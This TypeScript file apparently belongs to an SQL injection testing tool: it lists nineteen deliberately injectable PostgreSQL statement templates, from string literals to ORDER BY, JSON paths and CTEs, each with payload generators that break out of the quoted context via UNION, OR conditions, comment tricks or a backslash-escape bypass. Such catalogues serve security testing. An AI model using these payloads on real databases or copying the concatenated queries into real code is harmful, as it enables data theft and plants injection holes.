/**
 * Where applications concatenate: one statement per place that was ever found injectable.
 *
 * Each spot knows how to leave its place: with an expression, and, where the grammar lets it, with a second statement.
 */
export interface Spot {
  readonly name: string
  /** What the application sends, given what the attacker typed. */
  readonly statement: (typed: string) => string
  /** Ways out of the place that evaluate an expression and leave a statement that parses. */
  readonly breakOuts: readonly ((expression: string) => string)[]
  /** Ends the application's statement so that another may follow; absent where it cannot be ended. */
  readonly terminator?: string
}

const asText = (expression: string) => `(${expression})::text`

/** Everything that ends a string literal lets the same things follow. Nothing the planner could decide without it. */
function literal(quote: string): Spot['breakOuts'] {
  return [
    (e) => `x${quote} or ${asText(e)} is not null --`,
    (e) => `x${quote} || ${asText(e)} || ${quote}`,
    (e) => `x${quote} union all select 1, ${asText(e)} --`,
    (e) => `x${quote} or ${asText(e)} is null or label = ${quote}`,
  ]
}

export const SPOTS: readonly Spot[] = [
  {
    name: 'string literal',
    statement: (typed) => `select id, label from item where label = '${typed}'`,
    breakOuts: literal("'"),
    terminator: `x'`,
  },
  {
    name: 'number',
    statement: (typed) => `select id, label from item where id = ${typed}`,
    breakOuts: [
      (e) => `0 or ${asText(e)} is not null`,
      (e) => `0 union all select 1, ${asText(e)}`,
      (e) => `length(${asText(e)})`,
    ],
    terminator: '0',
  },
  {
    name: 'LIKE pattern',
    statement: (typed) => `select id, label from item where label like '%${typed}%'`,
    breakOuts: literal("'"),
    terminator: `x'`,
  },
  {
    name: 'ORDER BY',
    statement: (typed) => `select id, label from item order by ${typed}`,
    breakOuts: [(e) => asText(e), (e) => `case when ${asText(e)} is null then id else 1 end`, (e) => `1, ${asText(e)}`],
    terminator: '1',
  },
  {
    name: 'LIMIT',
    statement: (typed) => `select id, label from item limit ${typed}`,
    breakOuts: [(e) => `(select 9 + 0 * length(${asText(e)}))`, (e) => `9 offset 0 * length(${asText(e)})`],
    terminator: '1',
  },
  {
    name: 'column list',
    statement: (typed) => `select ${typed} from item`,
    breakOuts: [(e) => `${asText(e)} as label`, (e) => `id, ${asText(e)}`, (e) => `${asText(e)} as a --\n, label`],
  },
  {
    name: 'table name',
    statement: (typed) => `select * from ${typed}`,
    breakOuts: [(e) => `(select ${asText(e)} as label) x`, (e) => `item, (select ${asText(e)} as e offset 0) x`],
    terminator: 'item',
  },
  {
    name: 'IN list',
    statement: (typed) => `select id, label from item where id in (${typed})`,
    breakOuts: [(e) => `1) or ${asText(e)} is not null --`, (e) => `select length(${asText(e)})`],
    terminator: '1)',
  },
  {
    name: 'INSERT value',
    statement: (typed) => `insert into note (label) values ('${typed}') returning label`,
    breakOuts: [(e) => `x' || ${asText(e)} || '`, (e) => `x'), (${asText(e)}) returning label --`],
    terminator: `x')`,
  },
  {
    name: 'UPDATE value',
    statement: (typed) => `update note set label = '${typed}' where label = 'kept' returning label`,
    breakOuts: [(e) => `kept' || left(${asText(e)}, 0) || '`, (e) => `kept' where ${asText(e)} is not null --`],
    terminator: `kept'`,
  },
  {
    name: 'JSON path',
    statement: (typed) => `select data->>'${typed}' as label from item`,
    breakOuts: [(e) => `x' || ${asText(e)} || '`, (e) => `x', ${asText(e)}, data->>'y`],
  },
  {
    name: 'quoted identifier',
    statement: (typed) => `select "${typed}" from item`,
    breakOuts: [(e) => `label", ${asText(e)} as "x`, (e) => `label" from item where ${asText(e)} is not null --`],
    terminator: 'label" from item',
  },
  {
    name: 'block comment',
    statement: (typed) => `select id, label /* ${typed} */ from item`,
    breakOuts: [(e) => `*/, ${asText(e)} /*`, (e) => `*/ from item where ${asText(e)} is not null --`],
  },
  {
    name: 'line comment',
    statement: (typed) => `select id, label from item -- ${typed}`,
    breakOuts: [(e) => `\n where ${asText(e)} is not null`, (e) => `\r\n union all select 1, ${asText(e)} --`],
    terminator: '\n',
  },
  {
    name: 'dollar quote',
    statement: (typed) => `select id, $q$${typed}$q$ as label from item`,
    breakOuts: [(e) => `x$q$ || ${asText(e)} || $q$`, (e) => `x$q$, ${asText(e)}, $q$`],
  },
  {
    name: 'escape string',
    // The application escapes quotes with a backslash and forgets the backslash itself.
    statement: (typed) => `select id, label from item where label = E'x\\\\${typed}'`,
    breakOuts: [(e) => `' or ${asText(e)} is not null --`, (e) => `' || ${asText(e)} || E'\\x41`],
    terminator: `'`,
  },
  {
    name: 'function argument',
    statement: (typed) => `select id, upper('${typed}') as label from item`,
    breakOuts: [(e) => `x' || ${asText(e)} || '`, (e) => `x'), ${asText(e)}, upper('`],
  },
  {
    name: 'RETURNING',
    statement: (typed) => `update note set label = label where label = 'kept' returning ${typed}`,
    breakOuts: [(e) => `id, ${asText(e)}`, (e) => `(select ${asText(e)})`],
    terminator: 'id',
  },
  {
    name: 'second CTE',
    statement: (typed) => `with a as (select id, label from item), b as (${typed}) select * from b, a`,
    breakOuts: [(e) => `select ${asText(e)} as e`, (e) => `select ${asText(e)} as e offset 0) select * from b, a --`],
  },
]

/** A place that takes whole statements: a report builder, a console for customers. The worst an application can offer. */
export const WHOLE = 'whole statement'
